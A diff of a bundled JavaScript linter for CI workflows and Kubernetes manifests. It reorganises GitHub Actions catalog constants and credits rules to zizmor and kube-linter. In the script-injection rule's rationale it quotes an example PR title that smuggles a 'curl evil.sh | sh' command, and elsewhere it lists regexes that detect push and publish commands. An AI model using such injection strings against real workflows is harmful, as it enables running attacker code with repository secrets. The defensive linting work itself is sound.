@@ -33846,88 +33846,7 @@ function policyRules(resources, options) {
 // src/model/workflow.ts
 import { basename as basename2 } from "path";
 
-// src/catalog/github-actions.ts
-var WORKFLOW_KEYS = ["name", "run-name", "on", "permissions", "env", "defaults", "concurrency", "jobs"];
-var JOB_KEYS = [
-  "name",
-  "needs",
-  "runs-on",
-  "permissions",
-  "environment",
-  "concurrency",
-  "outputs",
-  "env",
-  "defaults",
-  "if",
-  "steps",
-  "timeout-minutes",
-  "strategy",
-  "continue-on-error",
-  "container",
-  "services",
-  "uses",
-  "with",
-  "secrets",
-  "snapshot"
-];
-var REUSABLE_CALL_JOB_KEYS = [
-  "name",
-  "uses",
-  "with",
-  "secrets",
-  "strategy",
-  "needs",
-  "if",
-  "concurrency",
-  "permissions"
-];
-var STEP_KEYS = [
-  "id",
-  "if",
-  "name",
-  "uses",
-  "run",
-  "shell",
-  "with",
-  "env",
-  "continue-on-error",
-  "timeout-minutes",
-  "working-directory"
-];
-var STRATEGY_KEYS = ["matrix", "fail-fast", "max-parallel"];
-var CONTAINER_KEYS = ["image", "credentials", "env", "ports", "volumes", "options"];
-var DEFAULTS_KEYS = ["run"];
-var DEFAULTS_RUN_KEYS = ["shell", "working-directory"];
-var CONCURRENCY_KEYS = ["group", "cancel-in-progress"];
-var ENVIRONMENT_KEYS = ["name", "url", "deployment"];
-var ACTION_KEYS = ["name", "author", "description", "inputs", "outputs", "runs", "branding"];
-var ACTION_RUNS_KEYS = [
-  "using",
-  "steps",
-  "main",
-  "pre",
-  "post",
-  "pre-if",
-  "post-if",
-  "image",
-  "env",
-  "args",
-  "entrypoint",
-  "pre-entrypoint",
-  "post-entrypoint"
-];
-var COMPOSITE_STEP_KEYS = [
-  "id",
-  "if",
-  "name",
-  "uses",
-  "run",
-  "shell",
-  "with",
-  "env",
-  "continue-on-error",
-  "working-directory"
-];
+// src/catalog/github-actions/events.ts
 var BRANCH_PATH_FILTERS = ["branches", "branches-ignore", "paths", "paths-ignore"];
 var PR_TYPES = [
   "assigned",
@@ -34035,26 +33954,8 @@ var FORK_PR_EVENTS = [
   "pull_request_review",
   "pull_request_review_comment"
 ];
-var PERMISSION_SCOPES = [
-  "actions",
-  "artifact-metadata",
-  "attestations",
-  "checks",
-  "contents",
-  "deployments",
-  "discussions",
-  "id-token",
-  "issues",
-  "models",
-  "packages",
-  "pages",
-  "pull-requests",
-  "repository-projects",
-  "security-events",
-  "statuses"
-];
-var PERMISSION_LEVELS = ["read", "write", "none"];
-var PERMISSION_BLOCK_VALUES = ["read-all", "write-all"];
+
+// src/catalog/github-actions/expressions.ts
 var CONTEXTS = [
   "github",
   "env",
@@ -34200,6 +34101,179 @@ var UNTRUSTED_INPUTS = [
   "github.event.*.title",
   "github.head_ref"
 ];
+
+// src/catalog/github-actions/keys.ts
+var WORKFLOW_KEYS = ["name", "run-name", "on", "permissions", "env", "defaults", "concurrency", "jobs"];
+var JOB_KEYS = [
+  "name",
+  "needs",
+  "runs-on",
+  "permissions",
+  "environment",
+  "concurrency",
+  "outputs",
+  "env",
+  "defaults",
+  "if",
+  "steps",
+  "timeout-minutes",
+  "strategy",
+  "continue-on-error",
+  "container",
+  "services",
+  "uses",
+  "with",
+  "secrets",
+  "snapshot"
+];
+var REUSABLE_CALL_JOB_KEYS = [
+  "name",
+  "uses",
+  "with",
+  "secrets",
+  "strategy",
+  "needs",
+  "if",
+  "concurrency",
+  "permissions"
+];
+var STEP_KEYS = [
+  "id",
+  "if",
+  "name",
+  "uses",
+  "run",
+  "shell",
+  "with",
+  "env",
+  "continue-on-error",
+  "timeout-minutes",
+  "working-directory"
+];
+var STRATEGY_KEYS = ["matrix", "fail-fast", "max-parallel"];
+var CONTAINER_KEYS = ["image", "credentials", "env", "ports", "volumes", "options"];
+var DEFAULTS_KEYS = ["run"];
+var DEFAULTS_RUN_KEYS = ["shell", "working-directory"];
+var CONCURRENCY_KEYS = ["group", "cancel-in-progress"];
+var ENVIRONMENT_KEYS = ["name", "url", "deployment"];
+var ACTION_KEYS = ["name", "author", "description", "inputs", "outputs", "runs", "branding"];
+var ACTION_RUNS_KEYS = [
+  "using",
+  "steps",
+  "main",
+  "pre",
+  "post",
+  "pre-if",
+  "post-if",
+  "image",
+  "env",
+  "args",
+  "entrypoint",
+  "pre-entrypoint",
+  "post-entrypoint"
+];
+var COMPOSITE_STEP_KEYS = [
+  "id",
+  "if",
+  "name",
+  "uses",
+  "run",
+  "shell",
+  "with",
+  "env",
+  "continue-on-error",
+  "working-directory"
+];
+
+// src/catalog/github-actions/permissions.ts
+var PERMISSION_SCOPES = [
+  "actions",
+  "artifact-metadata",
+  "attestations",
+  "checks",
+  "contents",
+  "deployments",
+  "discussions",
+  "id-token",
+  "issues",
+  "models",
+  "packages",
+  "pages",
+  "pull-requests",
+  "repository-projects",
+  "security-events",
+  "statuses"
+];
+var PERMISSION_LEVELS = ["read", "write", "none"];
+var PERMISSION_BLOCK_VALUES = ["read-all", "write-all"];
+var PERMISSION_SENSITIVE_EVENTS = [
+  "pull_request_target",
+  "workflow_run",
+  "issue_comment",
+  "issues",
+  "discussion",
+  "discussion_comment"
+];
+var WRITING_ACTIONS = [
+  "actions/create-release",
+  "actions/upload-release-asset",
+  "actions/deploy-pages",
+  "actions/stale",
+  "actions/labeler",
+  "actions/first-interaction",
+  "actions/github-script",
+  "actions/attest-build-provenance",
+  "actions/attest",
+  "github/codeql-action/upload-sarif",
+  "github/codeql-action/analyze",
+  "softprops/action-gh-release",
+  "ncipollo/release-action",
+  "marvinpinto/action-automatic-releases",
+  "googleapis/release-please-action",
+  "google-github-actions/release-please-action",
+  "release-drafter/release-drafter",
+  "changesets/action",
+  "peaceiris/actions-gh-pages",
+  "jamesives/github-pages-deploy-action",
+  "peter-evans/create-pull-request",
+  "peter-evans/create-or-update-comment",
+  "stefanzweifel/git-auto-commit-action",
+  "endbug/add-and-commit",
+  "ad-m/github-push-action",
+  "docker/login-action",
+  "pypa/gh-action-pypi-publish",
+  "js-devtools/npm-publish",
+  "aws-actions/configure-aws-credentials",
+  "azure/login",
+  "azure/webapps-deploy",
+  "google-github-actions/auth",
+  "google-github-actions/deploy-",
+  "hashicorp/vault-action"
+];
+var WRITING_COMMANDS = [
+  { pattern: /\bgit\s+push\b/, what: "git push" },
+  {
+    pattern: /\bgh\s+(pr|issue)\b[^|;&\n]*?\s(create|edit|comment|close|merge|review|reopen|lock|unlock|ready|delete|pin|transfer)\b/,
+    what: "gh pr/issue"
+  },
+  { pattern: /\bgh\s+release\b[^|;&\n]*?\s(create|upload|edit|delete)\b/, what: "gh release" },
+  { pattern: /\bgh\s+(label|secret|variable)\s+(create|edit|delete|set|clone)\b/, what: "gh" },
+  {
+    pattern: /\bgh\s+api\s+(?!graphql\b).*(\s(-X|--method)\s*(POST|PUT|PATCH|DELETE)\b|\s-[fF]\s|\s--(raw-)?field\b)/,
+    what: "gh api"
+  },
+  { pattern: /\bgh\s+api\s+graphql\b[\s\S]*\bmutation\b/, what: "gh api graphql mutation" },
+  { pattern: /\b(npm|yarn|pnpm)\s+publish\b/, what: "npm publish" },
+  { pattern: /\btwine\s+upload\b/, what: "twine upload" },
+  { pattern: /\b(poetry|uv|cargo|flit|hatch)\s+publish\b/, what: "publish" },
+  { pattern: /\bgem\s+push\b/, what: "gem push" },
+  { pattern: /\b(dotnet\s+nuget|nuget)\s+push\b/, what: "nuget push" },
+  { pattern: /\bdocker\s+(image\s+)?push\b/, what: "docker push" },
+  { pattern: /\bmvn\b.*\bdeploy\b/, what: "mvn deploy" },
+  { pattern: /\bcurl\b.*api\.github\.com.*(-X\s*(POST|PUT|PATCH|DELETE)\b|\s(-d|--data)\b)/, what: "GitHub API write" }
+];
+
+// src/catalog/github-actions/runners.ts
 var OUTDATED_ACTIONS = {
   "actions/checkout": ["v1", "v2", "v3"],
   "actions/setup-node": ["v1", "v2", "v3"],
@@ -34277,72 +34351,6 @@ var GPU_LABEL_WORDS = [
 ];
 var MAX_MATRIX_JOBS = 256;
 var DEFAULT_JOB_TIMEOUT_MINUTES = 360;
-var PERMISSION_SENSITIVE_EVENTS = [
-  "pull_request_target",
-  "workflow_run",
-  "issue_comment",
-  "issues",
-  "discussion",
-  "discussion_comment"
-];
-var WRITING_ACTIONS = [
-  "actions/create-release",
-  "actions/upload-release-asset",
-  "actions/deploy-pages",
-  "actions/stale",
-  "actions/labeler",
-  "actions/first-interaction",
-  "actions/github-script",
-  "actions/attest-build-provenance",
-  "actions/attest",
-  "github/codeql-action/upload-sarif",
-  "github/codeql-action/analyze",
-  "softprops/action-gh-release",
-  "ncipollo/release-action",
-  "marvinpinto/action-automatic-releases",
-  "googleapis/release-please-action",
-  "google-github-actions/release-please-action",
-  "release-drafter/release-drafter",
-  "changesets/action",
-  "peaceiris/actions-gh-pages",
-  "jamesives/github-pages-deploy-action",
-  "peter-evans/create-pull-request",
-  "peter-evans/create-or-update-comment",
-  "stefanzweifel/git-auto-commit-action",
-  "endbug/add-and-commit",
-  "ad-m/github-push-action",
-  "docker/login-action",
-  "pypa/gh-action-pypi-publish",
-  "js-devtools/npm-publish",
-  "aws-actions/configure-aws-credentials",
-  "azure/login",
-  "azure/webapps-deploy",
-  "google-github-actions/auth",
-  "google-github-actions/deploy-",
-  "hashicorp/vault-action"
-];
-var WRITING_COMMANDS = [
-  { pattern: /\bgit\s+push\b/, what: "git push" },
-  {
-    pattern: /\bgh\s+(pr|issue)\b[^|;&\n]*?\s(create|edit|comment|close|merge|review|reopen|lock|unlock|ready|delete|pin|transfer)\b/,
-    what: "gh pr/issue"
-  },
-  { pattern: /\bgh\s+release\b[^|;&\n]*?\s(create|upload|edit|delete)\b/, what: "gh release" },
-  { pattern: /\bgh\s+(label|secret|variable)\s+(create|edit|delete|set|clone)\b/, what: "gh" },
-  {
-    pattern: /\bgh\s+api\s+(?!graphql\b).*(\s(-X|--method)\s*(POST|PUT|PATCH|DELETE)\b|\s-[fF]\s|\s--(raw-)?field\b)/,
-    what: "gh api"
-  },
-  { pattern: /\bgh\s+api\s+graphql\b[\s\S]*\bmutation\b/, what: "gh api graphql mutation" },
-  { pattern: /\b(npm|yarn|pnpm)\s+publish\b/, what: "npm publish" },
-  { pattern: /\btwine\s+upload\b/, what: "twine upload" },
-  { pattern: /\b(poetry|uv|cargo|flit|hatch)\s+publish\b/, what: "publish" },
-  { pattern: /\bgem\s+push\b/, what: "gem push" },
-  { pattern: /\b(dotnet\s+nuget|nuget)\s+push\b/, what: "nuget push" },
-  { pattern: /\bdocker\s+(image\s+)?push\b/, what: "docker push" },
-  { pattern: /\bmvn\b.*\bdeploy\b/, what: "mvn deploy" },
-  { pattern: /\bcurl\b.*api\.github\.com.*(-X\s*(POST|PUT|PATCH|DELETE)\b|\s(-d|--data)\b)/, what: "GitHub API write" }
-];
 
 // src/model/workflow-expression.ts
 var ExpressionError = class extends Error {
@@ -35290,6 +35298,7 @@ var dangerous_trigger_default = defineRule({
   id: "ci/dangerous-trigger",
   category: "ci",
   severity: "error",
+  sources: [{ tool: "zizmor", check: "dangerous-triggers" }],
   summary: "A `pull_request_target` or `workflow_run` workflow checks out the pull request's code and runs it",
   rationale: "Workflows triggered by `pull_request_target` and `workflow_run` run with the base repository's token (often writable) and its secrets, even for pull requests from forks. Checking out the pull request's head and then building, testing or installing it executes the attacker's code with those privileges (\"pwn request\") \u2014 and on a self-hosted GPU runner, on your hardware.",
   remediation: "Use `pull_request` for anything that builds or runs the contributed code; keep `pull_request_target` for labelling or commenting without checkout, or split the work: an unprivileged `pull_request` workflow uploads results and a `workflow_run` workflow only reads them as data.",
@@ -36167,6 +36176,7 @@ var permissions_default = defineRule({
   id: "ci/permissions",
   category: "ci",
   severity: "warning",
+  sources: [{ tool: "zizmor", check: "excessive-permissions" }],
   summary: "The workflow has no top-level `permissions` (the GITHUB_TOKEN gets the repository default) where it matters, or uses `write-all`",
   rationale: "Without a `permissions` block every job's GITHUB_TOKEN gets the repository's default \u2014 read/write on contents, packages, pull requests and more in repositories and organisations that have not changed it \u2014 so one compromised step or action can push code or publish packages. LLM-written workflows drop an existing `permissions` block most of the time. `write-all` is worse: every scope writable. The missing block is a warning when it matters \u2014 the workflow reads secrets other than GITHUB_TOKEN, hands the token to a third-party action, runs on an event outsiders trigger (`pull_request_target`, `workflow_run`, `issue_comment`, `issues`, discussions), or has steps that push, release, publish, comment or deploy (`git push`, `gh pr`/`gh release`, release and deployment actions, cloud logins, a deployment `environment`) \u2014 and info otherwise, since a workflow that only builds and tests reads the repository either way.",
   remediation: "Add `permissions:` at the top with the least the workflow needs (often `contents: read`), and raise scopes per job (`id-token: write` for OIDC, `packages: write` to publish).",
@@ -36427,6 +36437,7 @@ var script_injection_default = defineRule({
   id: "ci/script-injection",
   category: "ci",
   severity: "error",
+  sources: [{ tool: "zizmor", check: "template-injection" }],
   summary: "An attacker-controlled value (PR title, issue body, branch name, commit message) is expanded inside `run:`",
   rationale: '`${{ }}` is substituted into the script text before the shell runs it, so a pull request titled `a"; curl evil.sh | sh; echo "` or a branch named `$(\u2026)` runs its own commands in the job, with its token and secrets \u2014 on a self-hosted GPU runner, on your machine. Titles, bodies, comments, commit messages, author names and head branch names are all chosen by whoever opens the PR or issue.',
   remediation: 'Pass the value through an environment variable and quote it in the shell: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `echo "$TITLE"`. For actions/github-script, read it from `context` instead of templating the script.',
@@ -37084,6 +37095,7 @@ var unpinned_action_default = defineRule({
   id: "ci/unpinned-action",
   category: "ci",
   severity: "warning",
+  sources: [{ tool: "zizmor", check: "unpinned-uses" }],
   summary: "An action or reusable workflow is referenced by a tag or branch, not a full commit SHA",
   rationale: "A tag or branch can be moved to other code at any time by whoever controls the action's repository (or steals its credentials, as in the tj-actions/changed-files compromise of March 2025); the next run then executes that code with the job's token and secrets. A full 40-character commit SHA is the only immutable reference. LLM-written workflows drop existing SHA pins most of the time. First-party actions (`actions/*`, `github/*`) are reported at info unless `pinFirstPartyActions: true` is set in .mlgate.yaml.",
   remediation: "Pin to the commit SHA of the release and keep the tag as a comment (`uses: owner/repo@<40-hex sha> # v1.2.3`); let Dependabot or Renovate update the pins.",
@@ -48328,6 +48340,7 @@ var image_tag_default = defineRule({
   id: "reproducibility/image-tag",
   category: "reproducibility",
   severity: "warning",
+  sources: [{ tool: "kube-linter", check: "latest-tag" }],
   summary: "An image has no tag or uses :latest",
   rationale: "An image without a tag is :latest, and :latest is whatever was pushed last: two workers of one training job can pull different images (a different CUDA, NCCL or PyTorch) when they start on different nodes at different times, a restarted job is not the job that ran, and a rollback has nothing to roll back to. With :latest the kubelet also pulls on every start (imagePullPolicy defaults to Always), so a registry outage stops scheduling. A container that only sleeps, prints or serves a demo page (busybox, bash or alpine running `sleep`/`echo`, an nginx or pause stand-in) is reported as info: no result depends on its version.",
   remediation: "Pin a version tag (pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime), and better a digest (@sha256:\u2026).",
@@ -54399,6 +54412,7 @@ var privilege_escalation_default = defineRule({
   id: "security/privilege-escalation",
   category: "security",
   severity: "warning",
+  sources: [{ tool: "kube-linter", check: "privilege-escalation" }],
   summary: "At --pss restricted: a container does not set allowPrivilegeEscalation: false",
   rationale: "Unless allowPrivilegeEscalation is false, a process in the container can gain more privileges than its parent through setuid binaries or file capabilities (the no_new_privs flag is not set). The restricted Pod Security Standard requires it to be false on every container (control: Privilege Escalation); Kubernetes defaults it to true.",
   remediation: "Set securityContext.allowPrivilegeEscalation: false on every container.",
@@ -54453,6 +54467,7 @@ var privileged_default = defineRule({
   id: "security/privileged",
   category: "security",
   severity: "warning",
+  sources: [{ tool: "kube-linter", check: "privileged-container" }],
   summary: "A container runs privileged (securityContext.privileged: true)",
   rationale: "A privileged container sees every device of the node and can load kernel modules, mount the host filesystem and leave its namespaces: a compromise of the process is a compromise of the node and of every pod and GPU on it. The Pod Security Standards forbid it from the baseline level up (control: Privileged Containers), so a namespace that enforces baseline rejects the pod. Device plugins and drivers (DaemonSets) legitimately need it, and so do the pods an operator builds from its own internal templates to validate a node (the GPU operator's validator manifests, whose namespace and image are placeholders the operator fills in): those are node agents, reported as info; an RDMA training pod does not: IPC_LOCK and the RDMA device resource are enough.",
   remediation: "Remove privileged: true. Request the device through its resource (nvidia.com/gpu, rdma/\u2026) and add only the capability the workload needs (IPC_LOCK for RDMA). For a node agent, run it in a namespace labelled for the privileged level.",
@@ -54894,6 +54909,7 @@ var run_as_non_root_default = defineRule({
   id: "security/run-as-non-root",
   category: "security",
   severity: "warning",
+  sources: [{ tool: "kube-linter", check: "run-as-non-root" }],
   summary: "At --pss restricted: a container may run as root (runAsNonRoot not true, or runAsUser: 0)",
   rationale: "Most ML images (CUDA, PyTorch, vLLM) run as root unless told otherwise; root in a container is root on the node as soon as anything else goes wrong (a hostPath, a kernel bug, a runtime CVE). The restricted Pod Security Standard requires runAsNonRoot: true on the pod or every container, and forbids runAsUser: 0 (controls: Running as Non-root, Running as Non-root user).",
   remediation: "Set spec.securityContext.runAsNonRoot: true and a non-zero runAsUser (and fsGroup for writable volumes); build images with a USER.",
